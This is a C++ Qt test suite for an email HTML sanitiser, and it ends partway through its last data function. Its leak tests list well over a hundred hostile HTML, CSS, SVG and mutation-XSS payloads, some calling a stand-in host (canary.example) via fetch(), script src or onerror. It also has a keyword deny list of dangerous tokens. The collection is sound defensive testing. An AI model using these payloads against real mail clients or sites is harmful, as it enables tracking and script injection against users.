// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/mime/sanitiser.h"

#include <QRegularExpression>
#include <QTest>

using namespace kittiwake::mime;

namespace
{

QString documentOf(const SanitisedHtml &part)
{
    DocumentWriter writer;
    writer.addHtml(part);
    return writer.document();
}

/// Without what our own display adds (test_colours.cpp, test_remoteimages.cpp).
QByteArray unmarked(const QByteArray &markup)
{
    static const QRegularExpression mark(QStringLiteral(" data-kw(-remote)?=\"[^\"]*\""));
    return QString::fromUtf8(markup).remove(mark).toUtf8();
}

QByteArray bodyOf(const QByteArray &html)
{
    return unmarked(sanitiseHtml(html).body);
}

/// What a mail would be whose body is our output.
QByteArray asMail(const SanitisedHtml &part)
{
    return "<style>" + part.styles + "</style><body>" + part.body + "</body>";
}

} // namespace

class TestSanitiser : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void leaks_data();
    void leaks();
    void markup_data();
    void markup();
    void links_data();
    void links();
    void blockedIsListed();
    void contentIds();
    void dataImages_data();
    void dataImages();
    void bodyBecomesTheScope();
    void newsletterKeepsItsLook();
    void outputIsStable_data();
    void outputIsStable();
    void document();
    void colourScheme();
    void hostileShapes_data();
    void hostileShapes();
};

void TestSanitiser::leaks_data()
{
    QTest::addColumn<QByteArray>("html");
    int number = 0;
    const auto row = [&](const char *html) {
        QTest::newRow(QByteArray(QByteArray::number(++number) + ' ' + QByteArray(html).left(60)).constData())
            << QByteArray(html);
    };
    // Images and what else fetches by attribute
    row("<img src=http://canary.example/a.png>");
    row("<img src='//canary.example/a.png'>");
    row("<img src='\\\\canary.example\\a.png'>");
    row("<img src='/\\canary.example/a.png'>");
    row("<img src='\nhttps://canary.example/a.png'>");
    row("<img src='ht\ttps://canary.example/a.png'>");
    row("<img src='&#104;ttps://canary.example/a.png'>");
    row("<img src=x srcset='https://canary.example/a.png 2x'>");
    row("<picture><source srcset=https://canary.example/a.png><img src=https://canary.example/b.png></picture>");
    row("<img lowsrc=https://canary.example/a.png dynsrc=https://canary.example/b.png>");
    row("<img longdesc=https://canary.example/a.html usemap=https://canary.example/>");
    row("<image src=https://canary.example/a.png>");
    row("<image xlink:href=https://canary.example/a.png>");
    row("<input type=image src=https://canary.example/a.png>");
    row("<body background=https://canary.example/a.png>x");
    row("<table background=https://canary.example/a.png><tr><td background=https://canary.example/b.png>x</table>");
    row("<video src=https://canary.example/a.mp4 poster=https://canary.example/b.png autoplay>x</video>");
    row("<audio src=https://canary.example/a.mp3></audio>");
    row("<video><source src=https://canary.example/a><track src=https://canary.example/b></video>");
    row("<object data=https://canary.example/a.swf><param name=movie value=https://canary.example/b></object>");
    row("<object codebase=https://canary.example/ archive=https://canary.example/x "
        "classid=https://canary.example/></object>");
    row("<embed src=https://canary.example/a.swf>");
    row("<applet code=https://canary.example/A.class codebase=https://canary.example/></applet>");
    row("<iframe src=https://canary.example/></iframe>");
    row("<iframe srcdoc='<img src=https://canary.example/a.png>'></iframe>");
    row("<iframe srcdoc='&lt;img src=&amp;quot;https://canary.example/a&amp;quot;&gt;'></iframe>");
    row("<frameset><frame src=https://canary.example/></frameset>");
    row("<portal src=https://canary.example/></portal><fencedframe src=https://canary.example/></fencedframe>");
    row("<bgsound src=https://canary.example/a.wav>");
    row("<menuitem icon=https://canary.example/a.png>");
    row("<html manifest=https://canary.example/m><p>x");
    // Head and link elements
    row("<link rel=stylesheet href=https://canary.example/a.css>");
    row("<link rel=prefetch href=https://canary.example/a>");
    row("<link rel=preconnect href=https://canary.example>");
    row("<link rel=dns-prefetch href=//canary.example>");
    row("<link rel=preload as=image href=https://canary.example/a imagesrcset=https://canary.example/b>");
    row("<link rel=icon href=https://canary.example/favicon.ico>");
    row("<head><base href=https://canary.example/></head><img src=a.png><a href=b>x</a>");
    row("<p><base href=//canary.example/><link rel=import href=https://canary.example/>");
    row("<meta http-equiv=refresh content='0;url=https://canary.example/'>");
    row("<meta http-equiv=Link content='<https://canary.example/>;rel=preload'>");
    row("<meta http-equiv=Set-Cookie content=canary=1><meta property=og:image content=https://canary.example/a>");
    row("<meta http-equiv=Content-Security-Policy content='report-uri https://canary.example/'>");
    // Forms and links with side effects
    row("<form action=https://canary.example/><input name=a><button "
        "formaction=https://canary.example/>Go</button></form>");
    row("<form><button type=submit formaction='https://canary.example/'>Go</button><isindex "
        "action=https://canary.example/>");
    row("<select><option value=https://canary.example/>x</select>");
    row("<a href=https://example.org/ ping=https://canary.example/>x</a>");
    row("<a href=https://example.org/ attributionsrc=https://canary.example/ target=canary>x</a>");
    row("<a href='javascript:fetch(\"https://canary.example/\")'>x</a>");
    row("<a href='java&#9;script:location=\"//canary.example\"'>x</a>");
    row("<a href=' &#14; javascript:location=\"//canary.example\"'>x</a>");
    row("<a href='data:text/html,<script src=https://canary.example/></script>'>x</a>");
    row("<a href='vbscript:canary'>x</a><a href='file://canary/share'>x</a><a href='smb://canary.example/'>x</a>");
    row("<a href='blob:https://canary.example/1'>x</a><a href='view-source:https://canary.example/'>x</a>");
    row("<a href='mailbox:///canary'>x</a><a href='intent://canary#Intent;end'>x</a><a href='search-ms:canary'>x</a>");
    row("<map name=m><area href=https://canary.example/></map><img usemap=#m>");
    row("<blockquote cite=https://canary.example/>x</blockquote><q cite=https://canary.example/>y</q>");
    // Scripts and events
    row("<script src=https://canary.example/a.js></script>");
    row("<script>fetch('https://canary.example/')</script>");
    row("<script type=module>import 'https://canary.example/'</script><script "
        "type=importmap>{\"a\":\"//canary.example\"}</script>");
    row("<img src=x onerror=\"fetch('https://canary.example/')\">");
    row("<body onload=\"location='https://canary.example/'\">x");
    row("<div onmouseover=canary() onclick=canary() style='color:red'>x</div>");
    row("<noscript><img src=https://canary.example/a.png></noscript>");
    row("<noscript><p title=\"</noscript><img src=https://canary.example/a onerror=canary()>\"></noscript>");
    row("<template><img src=https://canary.example/a.png></template>");
    row("<div><template shadowrootmode=open><img src=https://canary.example/a></template></div>");
    // SVG and MathML
    row("<svg><image href=https://canary.example/a.png /></svg>");
    row("<svg><image xlink:href=https://canary.example/a.png /><use href=https://canary.example/a.svg#x /></svg>");
    row("<svg><animate attributeName=href values=https://canary.example/ /><set to=https://canary.example/ /></svg>");
    row("<svg><style>@import 'https://canary.example/a.css';</style></svg>");
    row("<svg><script href=https://canary.example/a.js /></svg>");
    row("<svg><filter><feImage href=https://canary.example/a.png /></filter><text "
        "fill='url(//canary.example/#a)'>x</text></svg>");
    row("<svg><foreignObject><img src=https://canary.example/a.png></foreignObject></svg>");
    row("<svg><a href=https://canary.example/><text>x</text></a></svg>");
    row("<math><mtext><img src=https://canary.example/a.png></mtext></math>");
    row("<math href=https://canary.example/><mi xlink:href=https://canary.example/>x</mi></math>");
    row("<math><annotation-xml encoding=text/html><img src=https://canary.example/></annotation-xml></math>");
    row("<svg/onload=canary()><p>x");
    // CSS
    row("<p style='background:url(https://canary.example/a.png)'>x");
    row("<p style='background-image:url(\"https://canary.example/a.png\")'>x");
    row("<p style='background:\\75rl(https://canary.example/a.png)'>x");
    row("<p style='background:\\000075\\00072\\0006C(https://canary.example/a.png)'>x");
    row("<p style='background:u/**/rl(https://canary.example/a.png)'>x");
    row("<p style='background:URL(https://canary.example/a.png)'>x");
    row("<p style='background:url(https://canary.example/a.png'>x");
    row("<p style='background:#fff url( \"https://canary.example/a.png\" ) no-repeat'>x");
    row("<p style='background:url(\"\\\nhttps://canary.example/a.png\")'>x");
    row("<p style='background:&#117;rl(https://canary.example/a.png)'>x");
    row("<p style='list-style:url(https://canary.example/a.png)'>x");
    row("<p style='list-style-image:url(//canary.example/a.png);cursor:url(//canary.example/b),auto'>x");
    row("<p style='content:url(https://canary.example/a.png);border-image:url(https://canary.example/b) 1'>x");
    row("<p style='background-image:image-set(\"https://canary.example/a.png\" 1x)'>x");
    row("<p style='background-image:-webkit-image-set(url(https://canary.example/a.png) 1x)'>x");
    row("<p style='background-image:cross-fade(url(https://canary.example/a.png),url(//canary.example/b),50%)'>x");
    row("<p style='background-image:image(\"https://canary.example/a.png\");mask:url(//canary.example/m)'>x");
    row("<p style='background:element(#canary);background:paint(canary)'>x");
    row("<p style='--x:url(https://canary.example/a.png);background:var(--x)'>x");
    row("<p style='background:var(--y,url(https://canary.example/a.png))'>x");
    row("<p style='width:attr(canary px);height:env(canary)'>x");
    row("<p style='background:src(\"https://canary.example/a.png\")'>x");
    row("<p "
        "style='width:expression(canary());behavior:url(//canary.example/x.htc);-moz-binding:url(//canary.example/"
        "x)'>x");
    row("<p "
        "style='filter:url(//canary.example/f);clip-path:url(//canary.example/c);shape-outside:url(//canary.example/"
        "s)'>x");
    row("<p style='font-family:\"canary}</style><img src=//canary.example>\"'>x");
    row("<p style='color:red;background:url(//canary.example/a)\"><img src=//canary.example/b>'>x");
    row("<style>@import url(https://canary.example/a.css);</style>");
    row("<style>@import 'https://canary.example/a.css' screen;</style>");
    row("<style>@\\69mport 'https://canary.example/a.css';</style>");
    row("<style>@font-face{font-family:x;src:url(https://canary.example/a.woff)}p{font-family:x}</style>");
    row("<style>@namespace url(https://canary.example/);@charset 'canary';</style>");
    row("<style>@media screen{p{background:url(https://canary.example/a.png)}}</style>");
    row("<style>@media screen{@import 'https://canary.example/a.css';p{color:red}}</style>");
    row("<style>@supports (display:block){p{background:url(https://canary.example/a.png)}}</style>");
    row("<style>@layer a{p{background:url(//canary.example)}}@container "
        "(width>1px){p{background:url(//canary.example)}}</style>");
    row("<style>@keyframes a{from{background:url(https://canary.example/a.png)}}p{animation:a 1s}</style>");
    row("<style>@property --x{syntax:'<url>';inherits:true;initial-value:url(//canary.example/)}</style>");
    row("<style>@page{background:url(//canary.example/)}@document url(//canary.example/){p{color:red}}</style>");
    row("<style>input[value^=a]{background:url(https://canary.example/a)}</style>");
    row("<style>p::before{content:url(https://canary.example/a.png)}p:hover{background:url(//canary.example/b)}</"
        "style>");
    row("<style><!-- p{background:url(https://canary.example/a.png)} --></style>");
    row("<style>p{color:red;/*</style><img src=https://canary.example/a.png>*/}</style>");
    row("<style>p{}</sty<style>le><img src=https://canary.example/a.png></style>");
    row("<style media='screen and (min-width:url(//canary.example))'>p{color:red}</style>");
    row("<style>p{color:red}\\3c/style\\3e\\3cimg src=//canary.example\\3e{color:red}</style>");
    row("<style>.a{}}@import '//canary.example/a.css';</style>");
    row("<style>p{background:url(//canary.example/a.png");
    row("<style>p{&:hover{background:url(//canary.example/a.png)}}</style>");
    // Shapes that parse differently from what they seem, and mutation classics
    row("<!--[if mso]><img src=https://canary.example/a.png><![endif]-->");
    row("<!--[if !mso]><!--><p>x</p><!--<![endif]--><!--><img src=https://canary.example/a.png>-->");
    row("<!--><script src=https://canary.example/></script>-->");
    row("<!-- --!><img src=https://canary.example/a.png>");
    row("<![CDATA[<img src=https://canary.example/a.png>]]>");
    row("<xml><v:imagedata src=https://canary.example/a.png></xml><v:fill src=https://canary.example/b />");
    row("<img src=https://canary.example/a.png");
    row("<img src=\"https://canary.example/a.png");
    row("<img/src=https://canary.example/a.png/>");
    row("<IMG \nSRC\n=\nhttps://canary.example/a.png>");
    row("<<img src=https://canary.example/a.png>");
    row("<a href=\"x\"\"><img src=https://canary.example/a.png>");
    row("<p id=\"</p><img src=https://canary.example/a.png>\">x");
    row("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=https://canary.example/ "
        "onerror=canary()&gt;\">");
    row("<form><math><mtext></form><form><mglyph><style></math><img src=https://canary.example/ onerror=canary()>");
    row("<svg></p><style><a id=\"</style><img src=https://canary.example/ onerror=canary()>\">");
    row("<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title=\"&lt;/style>&lt;img "
        "src=https://canary.example>\">");
    row("<textarea><p title=\"</textarea><img src=https://canary.example/ onerror=canary()>\">");
    row("<title><p title=\"</title><img src=https://canary.example/ onerror=canary()>\">");
    row("<xmp><p title=\"</xmp><img src=https://canary.example/a>\">");
    row("<noembed><img src=https://canary.example/></noembed><noframes><img src=https://canary.example/></noframes>");
    row("<table><a href=javascript:canary()><img src=https://canary.example/>x</table>");
    row("<p>x\xE2\x80\xA8<img src=\x01https://canary.example/a.png\x01>");
    row("<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image "
        "href=\"https://canary.example/\"/></svg>'>");
    row("<img src='data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iaHR0cHM6Ly9jYW5hcnkuZXhhbXBsZS8iLz48L3N2Zz4='>");
    row("<img src='data:text/html;base64,canary'><img src='data:image/png,canary'>");
    row("<div id=canary\"><p class='canary<'>x</p></div>");
}

void TestSanitiser::leaks()
{
    QFETCH(QByteArray, html);
    // Also in the middle of a mail, and after something unclosed.
    for (const QByteArray &mail :
         {html, QByteArray("<html><body><p>Hello " + html), QByteArray("<table><tr><td><b>" + html)}) {
        const SanitisedHtml result = sanitiseHtml(mail);
        const QString output = documentOf(result);
        // The one variable is ours.
        const QString text = output.toLower().remove(QStringLiteral("var(--kw-ground)"));
        const qsizetype body = text.indexOf(QStringLiteral("</head>"));
        // As text it is what the sender wrote; no tag and no style may name it.
        static const QRegularExpression inTag(QStringLiteral("<[^>]*canary"));
        QVERIFY2(!inTag.match(text).hasMatch(), qPrintable(output));
        QVERIFY2(!text.first(body).contains(QStringLiteral("canary")), qPrintable(output));
        for (const char16_t *word :
             {u"javascript:", u"vbscript:", u"<script",    u"<iframe",     u"<object", u"<embed",    u"<svg",
              u"<math",       u"<form",     u"<input",     u"<link",       u"<base",   u"<template", u"srcset=",
              u"url(",        u"@import",   u"@font-face", u"expression(", u"var(",    u"<!--"})
            QVERIFY2(!text.contains(QString::fromUtf16(word)), qPrintable(output));
        QVERIFY2(!text.mid(body).contains(QStringLiteral("<meta")), qPrintable(output));
        QVERIFY2(!text.mid(body).contains(QStringLiteral("<style")), qPrintable(output));
        static const QRegularExpression source(QStringLiteral("<[^>]*\\b(src|href|on[a-z]+)\\s*=\\s*\"([^\"]*)\""));
        for (const auto &match : source.globalMatch(text.mid(body))) {
            const QString value = match.captured(2);
            QVERIFY2(!match.captured(1).startsWith(QStringLiteral("on")), qPrintable(output));
            QVERIFY2(!value.contains(QStringLiteral("canary")), qPrintable(output));
        }
        // What a browser makes of the output holds nothing that would have to be removed.
        const SanitisedHtml again = sanitiseHtml(asMail(result));
        QCOMPARE(again.removed, std::uint64_t(0));
        QVERIFY(again.blocked.empty());
    }
}

void TestSanitiser::markup_data()
{
    QTest::addColumn<QByteArray>("html");
    QTest::addColumn<QByteArray>("expected");
    const auto row = [](const char *name, const char *html, const char *expected) {
        QTest::newRow(name) << QByteArray(html) << QByteArray(expected);
    };
    row("empty", "", "");
    row("text", "a < b & \"c\"", "a &lt; b &amp; &quot;c&quot;");
    row("entities", "&lt;img src=x&gt; &amp;amp; &euro;", "&lt;img src=x&gt; &amp;amp; \xE2\x82\xAC");
    row("basic", "<p>Hello <b>you</b><br>there</p>", "<p>Hello <b>you</b><br>there</p>");
    row("unclosed", "<p>a<p>b<b>c", "<p>a</p><p>b<b>c</b></p>");
    row("unknown element", "<o:p>a</o:p><custom-x>b</custom-x>", "ab");
    row("form contents stay", "<form>Name <input><button>Go</button></form>", "<div>Name <span>Go</span></div>");
    row("object falls back", "<object data=x>text</object>", "text");
    row("noscript is shown", "<noscript><p>text</p></noscript>", "<p>text</p>");
    row("xmp is text", "<xmp><b>x</b></xmp>", "<pre>&lt;b&gt;x&lt;/b&gt;</pre>");
    row("pre keeps its first line", "<pre>\n\n a</pre>", "<pre>\n\n a</pre>");
    row("classes and ids", "<p class='a b&lt; c' id=top name=x>t</p>", "<p class=\"m-a m-c\" id=\"m-top\">t</p>");
    row("table look",
        "<table width=600 border=0 cellpadding=0 cellspacing=\"0\" align=center bgcolor=#FFFFFF role=presentation>"
        "<tr><td width=\"50%\" valign=top colspan=2 height=20px style=\"PADDING: 10px 0\">x</td></tr></table>",
        "<table width=\"600\" border=\"0\" cellpadding=\"0\" cellspacing=\"0\" align=\"center\" bgcolor=\"#FFFFFF\" "
        "role=\"presentation\"><tbody><tr><td width=\"50%\" valign=\"top\" colspan=\"2\" height=\"20px\" "
        "style=\"padding:10px 0\">x</td></tr></tbody></table>");
    row("font", "<font face=\"Arial, 'Open Sans'\" size=+1 color=red>x</font>",
        "<font face=\"Arial, 'Open Sans'\" size=\"+1\" color=\"red\">x</font>");
    row("bad values go", "<td>x</td><table width='1e9' border='x' bgcolor='url(x)'><tr><td colspan=99999>y</table>",
        "x<table><tbody><tr><td>y</td></tr></tbody></table>");
    row("title only on abbreviations",
        "<a href=https://e.org title='https://bank.example'>x</a><abbr title=\"A&quot;B\">y</abbr>",
        "<a href=\"https://e.org\">x</a><abbr title=\"A&quot;B\">y</abbr>");
    row("style values",
        "<p style=\"color:RED;position:fixed;top:0;z-index:9;margin:-5px auto;font:bold 12px/1.5 Arial,'A B',serif;"
        "background:#FFF URL(x) no-repeat;width:calc( 100% - 10PX "
        ");content:'x';text-indent:-9999px;float:left!important\">x</p>",
        "<p style=\"color:red;margin:-5px auto;font:bold 12px/1.5 Arial,'A B',serif;background:#FFF;"
        "width:calc(100% - 10px);float:left !important\">x</p>");
    row("colours",
        "<p style='color:rgba(1, 2, 3, .5);background:linear-gradient(to right, #fff 0%, rgb(0,0,0) 100%)'>x</p>",
        "<p style=\"color:rgba(1,2,3,.5);background:linear-gradient(to right,#fff 0%,rgb(0,0,0) 100%)\">x</p>");
    row("empty style goes", "<p style='behavior:x'>x</p>", "<p>x</p>");
    row("blocked image keeps its place", "<img src=https://e.org/a alt='A & B' width=10 height=5>",
        "<img alt=\"A &amp; B\" width=\"10\" height=\"5\">");
    row("empty alt", "<img alt=\"\" src=cid:x>", "<img alt=\"\" src=\"cid:x\">");
    row("bdo", "<bdo dir=rtl>x</bdo>", "<span dir=\"rtl\">x</span>");
    row("controls", "<p>a&#13;b&#1;c&#0;d</p>",
        "<p>abc\xEF\xBF\xBD"
        "d</p>");
}

void TestSanitiser::markup()
{
    QFETCH(QByteArray, html);
    QFETCH(QByteArray, expected);
    QCOMPARE(bodyOf(html), expected);
}

void TestSanitiser::links_data()
{
    QTest::addColumn<QByteArray>("href");
    QTest::addColumn<QByteArray>("expected");
    const auto row = [](const char *href, const char *expected) {
        QTest::newRow(href) << QByteArray(href) << QByteArray(expected);
    };
    row("https://example.org/a?b=1&amp;c=2#d", "https://example.org/a?b=1&amp;c=2#d");
    row("HTTP://Example.org", "http://Example.org");
    row(" https://example.org ", "https://example.org");
    row("https:\\\\example.org", "https://example.org");
    row("https:example.org", "https://example.org");
    row("https://exa\nmple.org", "https://example.org");
    row("mailto:a@b.org?subject=x", "mailto:a@b.org?subject=x");
    row("MailTo:a@b.org", "mailto:a@b.org");
    row("#top", "#m-top");
    row("https://", "");
    row("//example.org", "");
    row("relative.html", "");
    row("javascript:alert(1)", "");
    row("ftp://example.org", "");
    row("tel:+123", "");
    row("cid:x", "");
    row("", "");
}

void TestSanitiser::links()
{
    QFETCH(QByteArray, href);
    QFETCH(QByteArray, expected);
    const QByteArray wanted = expected.isEmpty() ? QByteArray("<a>x</a>") : "<a href=\"" + expected + "\">x</a>";
    QCOMPARE(bodyOf("<a href=\"" + href + "\">x</a>"), wanted);
}

void TestSanitiser::blockedIsListed()
{
    const SanitisedHtml result = sanitiseHtml(
        "<style>@import 'https://a.example/1.css';p{background:url(https://a.example/2.png)}</style>"
        "<link rel=stylesheet href=https://a.example/3.css>"
        "<body background=https://a.example/4.png><img src=https://a.example/5.png><img src='https://a.example/5.png'>"
        "<img src=//a.example/6.png><p style='background:#fff url(https://a.example/7.png)'>"
        "<iframe src=https://a.example/8.html></iframe><video poster=https://a.example/9.png></video>"
        "<img src=local.png><img src=cid:x><a href=https://a.example/link>x</a>");
    QStringList blocked(result.blocked.begin(), result.blocked.end());
    blocked.sort();
    QCOMPARE(blocked,
             QStringList({QStringLiteral("//a.example/6.png"), QStringLiteral("https://a.example/1.css"),
                          QStringLiteral("https://a.example/2.png"), QStringLiteral("https://a.example/3.css"),
                          QStringLiteral("https://a.example/4.png"), QStringLiteral("https://a.example/5.png"),
                          QStringLiteral("https://a.example/7.png"), QStringLiteral("https://a.example/8.html"),
                          QStringLiteral("https://a.example/9.png")}));
    QVERIFY(result.removed > 0);
    QByteArray many;
    for (int i = 0; i < 3000; ++i)
        many += "<img src=https://a.example/" + QByteArray::number(i) + ">";
    QCOMPARE(sanitiseHtml(many).blocked.size(), SanitiserLimits::blocked);
}

void TestSanitiser::contentIds()
{
    const SanitisedHtml result
        = sanitiseHtml("<img src=cid:logo@example.org><img src='CID:a%20b'><img src='cid:a%25b'>"
                       "<img src='cid:&lt;x@y&gt;'><img src=cid:><img src=cid:logo@example.org>");
    QCOMPARE(result.contentIds, QByteArrayList({"logo@example.org", "a%b", "x@y"}));
    QCOMPARE(result.body,
             QByteArray("<img src=\"cid:logo@example.org\"><img><img src=\"cid:a%25b\"><img src=\"cid:x@y\"><img>"
                        "<img src=\"cid:logo@example.org\">"));
}

void TestSanitiser::dataImages_data()
{
    QTest::addColumn<QByteArray>("source");
    QTest::addColumn<QByteArray>("type");
    const QByteArray png = QByteArray("\x89PNG\r\n\x1A\n....").toBase64();
    const QByteArray gif = QByteArray("GIF89a....").toBase64();
    QTest::newRow("png") << QByteArray("data:image/png;base64," + png) << QByteArray("image/png");
    QTest::newRow("any case, blanks") << QByteArray("DATA:image/png;BASE64, " + png.left(4) + "\n" + png.mid(4))
                                      << QByteArray("image/png");
    QTest::newRow("gif that says png") << QByteArray("data:image/png;base64," + gif) << QByteArray("image/gif");
    QTest::newRow("svg that says png") << QByteArray("data:image/png;base64,"
                                                     + QByteArray("<svg xmlns='x'/>").toBase64())
                                       << QByteArray();
    QTest::newRow("svg") << QByteArray("data:image/svg+xml;base64," + QByteArray("<svg/>").toBase64()) << QByteArray();
    QTest::newRow("html") << QByteArray("data:text/html;base64," + QByteArray("<b>").toBase64()) << QByteArray();
    QTest::newRow("no base64") << QByteArray("data:image/png,xyz") << QByteArray();
    QTest::newRow("no comma") << QByteArray("data:image/png;base64") << QByteArray();
    QTest::newRow("too big") << QByteArray("data:image/png;base64," + png
                                           + QByteArray(SanitiserLimits::dataImageBytes, 'A'))
                             << QByteArray();
}

void TestSanitiser::dataImages()
{
    QFETCH(QByteArray, source);
    QFETCH(QByteArray, type);
    const QByteArray body = bodyOf("<img src=\"" + source + "\">");
    if (type.isEmpty())
        QCOMPARE(body, QByteArray("<img>"));
    else
        QVERIFY2(body.startsWith(QByteArray("<img src=\"data:" + type + ";base64,")), body.constData());
}

void TestSanitiser::bodyBecomesTheScope()
{
    const SanitisedHtml result = sanitiseHtml(
        "<html lang=x><style>body{margin:0} body.dark p, html > body .a > .b:hover, #id, * , td[class=\"w\"],"
        "a[href^=x], p::before, .kw-page{color:#333} @media only screen and (max-width:600px){.w{width:100%!important}}"
        "@media (prefers-color-scheme:dark){p{color:#fff}}</style>"
        "<body class='dark' bgcolor=ffffff text=#111 style='margin:0' dir=rtl onload=x><p>t</p></body>",
        "kw-part7");
    QCOMPARE(
        unmarked(result.bodyAttributes),
        QByteArray(
            " class=\"kw-part kw-part7 m-dark\" style=\"background-color:#ffffff;color:#111;margin:0\" dir=\"rtl\""));
    QCOMPARE(result.styles,
             QByteArray(".kw-part7{margin:0}"
                        ".kw-part7.m-dark p,.kw-part7 .m-a>.m-b:hover,.kw-part7 #m-id,.kw-part7 *,.kw-part7 td.m-w,"
                        ".kw-part7 .m-kw-page{color:#333}"
                        "@media only screen and (max-width:600px){.kw-part7 .m-w{width:100% !important}}"));
}

void TestSanitiser::newsletterKeepsItsLook()
{
    const QByteArray html
        = "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" "
          "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n"
          "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta charset=\"utf-8\"><title>News</title>"
          "<style type=\"text/css\">#outlook "
          "a{padding:0}.ExternalClass{width:100%}img{border:0;-ms-interpolation-mode:bicubic}"
          ".btn{background-color:#0a66c2;border-radius:4px;color:#fff!important;display:inline-block;padding:12px 24px;"
          "font-family:Helvetica,Arial,sans-serif;font-weight:700;text-decoration:none}"
          "@media screen and (max-width:480px){.col{display:block!important;width:100%!important}}</style></head>"
          "<body style=\"margin:0;padding:0;background-color:#f4f4f4\">"
          "<!--[if mso]><table><tr><td><![endif]-->"
          "<table width=\"100%\" cellspacing=\"0\" cellpadding=\"0\" border=\"0\" bgcolor=\"#f4f4f4\"><tr><td "
          "align=\"center\">"
          "<table class=\"col\" width=\"600\" "
          "style=\"max-width:600px;border-collapse:collapse;background:#ffffff\"><tr>"
          "<td style=\"padding:20px 30px;font-family:'Helvetica "
          "Neue',Arial,sans-serif;font-size:16px;line-height:24px;color:#333333;"
          "mso-line-height-rule:exactly\"><h1 style=\"margin:0 0 12px;font-size:28px\">Hello</h1>"
          "<a href=\"https://news.example/?u=1&amp;c=2\" class=\"btn\" target=\"_blank\">Read</a>"
          "<img src=\"https://news.example/open.gif\" width=\"1\" height=\"1\" "
          "alt=\"\"></td></tr></table></td></tr></table></body></html>";
    const SanitisedHtml result = sanitiseHtml(html);
    QCOMPARE(
        unmarked(result.body),
        QByteArray(
            "<table width=\"100%\" cellspacing=\"0\" cellpadding=\"0\" border=\"0\" bgcolor=\"#f4f4f4\"><tbody><tr>"
            "<td align=\"center\"><table class=\"m-col\" width=\"600\" "
            "style=\"max-width:600px;border-collapse:collapse;"
            "background:#ffffff\"><tbody><tr><td style=\"padding:20px 30px;font-family:'Helvetica "
            "Neue',Arial,sans-serif;"
            "font-size:16px;line-height:24px;color:#333333\"><h1 style=\"margin:0 0 12px;font-size:28px\">Hello</h1>"
            "<a href=\"https://news.example/?u=1&amp;c=2\" class=\"m-btn\">Read</a>"
            "<img width=\"1\" height=\"1\" alt=\"\"></td></tr></tbody></table></td></tr></tbody></table>"));
    QCOMPARE(
        result.styles,
        QByteArray(
            ".kw-part1 #m-outlook a{padding:0}.kw-part1 .m-ExternalClass{width:100%}.kw-part1 img{border:0}"
            ".kw-part1 .m-btn{background-color:#0a66c2;border-radius:4px;color:#fff !important;display:inline-block;"
            "padding:12px 24px;font-family:Helvetica,Arial,sans-serif;font-weight:700;text-decoration:none}"
            "@media screen and (max-width:480px){.kw-part1 .m-col{display:block !important;width:100% !important}}"));
    QCOMPARE(result.blocked.size(), std::size_t(1));
}

void TestSanitiser::outputIsStable_data()
{
    QTest::addColumn<QByteArray>("html");
    for (const char *html : {"<p>a<div>b</div>c", "<b><i>x</b>y</i>", "<table>text<tr><td>x</table>",
                             "<a href=#x>1<a href=#y>2</a></a>", "<ul><li>a<li>b<ul><li>c</ul></ul>",
                             "<pre>\n\nx</pre>", "<style>.a,#b>c{color:red}</style><p class=a style='font:12px x'>",
                             "<h1>a<h2>b</h1>c</h2>", "<p><table><tr><td><p>x</table>",
                             "<font size=1><p>a<font color=red>b</p>c</font>", "<dl><dt>a<dd>b<dt>c</dl>",
                             "<ruby>a<rt>b<rp>c</ruby>", "<p>&amp;lt;b&gt; &nbsp; \xC2\xA0 \xF0\x9F\x91\xA8</p>"})
        QTest::newRow(html) << QByteArray(html);
}

void TestSanitiser::outputIsStable()
{
    QFETCH(QByteArray, html);
    const SanitisedHtml once = sanitiseHtml(html);
    const SanitisedHtml twice = sanitiseHtml(asMail(once));
    QCOMPARE(twice.body, once.body);
    QCOMPARE(twice.styles, once.styles);
    QCOMPARE(twice.removed, std::uint64_t(0));
}

void TestSanitiser::document()
{
    DocumentWriter writer;
    writer.addHtml(sanitiseHtml("<style>p{color:red}</style><p>one</p>", "kw-part1"));
    writer.addPlainText(QStringLiteral("two <b>\n& three"));
    writer.addHtml(sanitiseHtml("<style>p{color:blue}</style><p>four</p>", "kw-part2"));
    const QString document = writer.document();
    QVERIFY(
        document.startsWith(QStringLiteral("<!DOCTYPE html><html class=\"kw-light\"><head><meta charset=\"utf-8\">")));
    QVERIFY(document.contains(QStringLiteral(
        "http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src cid: data: remote:; "
        "style-src 'unsafe-inline';")));
    QVERIFY(document.contains(QStringLiteral(".kw-part1 p{color:red}.kw-part2 p{color:blue}@media screen{")));
    QVERIFY(document.contains(QStringLiteral("<div class=\"kw-part kw-part1\"><p>one</p></div>"
                                             "<div class=\"kw-text\">two &lt;b&gt;\n&amp; three</div>"
                                             "<div class=\"kw-part kw-part2\"><p>four</p></div></div></body></html>")));
}

void TestSanitiser::colourScheme()
{
    DocumentWriter writer;
    writer.addPlainText(QStringLiteral("x"));
    const QString light = writer.document(ColourScheme::Light);
    const QString dark = writer.document(ColourScheme::Dark);
    QVERIFY(dark.startsWith(QStringLiteral("<!DOCTYPE html><html class=\"kw-dark\">")));
    QCOMPARE(withColourScheme(light, ColourScheme::Dark), dark);
    QCOMPARE(withColourScheme(dark, ColourScheme::Light), light);
    QCOMPARE(withColourScheme(dark, ColourScheme::Dark), dark);
    QCOMPARE(withColourScheme(QStringLiteral("<p>x"), ColourScheme::Dark), QStringLiteral("<p>x"));
}

void TestSanitiser::hostileShapes_data()
{
    QTest::addColumn<QByteArray>("html");
    constexpr int megabyte = 1024 * 1024;
    const auto row = [](const char *name, const QByteArray &piece) {
        QTest::newRow(name) << piece.repeated(static_cast<int>(megabyte / piece.size()));
    };
    row("nested elements", "<div>");
    row("nested tables", "<table><tr><td>");
    row("unclosed formatting", "<b><i><u><p>");
    row("nested anchors", "<a href=x>");
    row("end tags", "</p>");
    row("angle brackets", "<");
    row("attributes", " a");
    row("comments", "<!--");
    row("entities", "&#x;");
    row("nested svg", "<svg><g>");
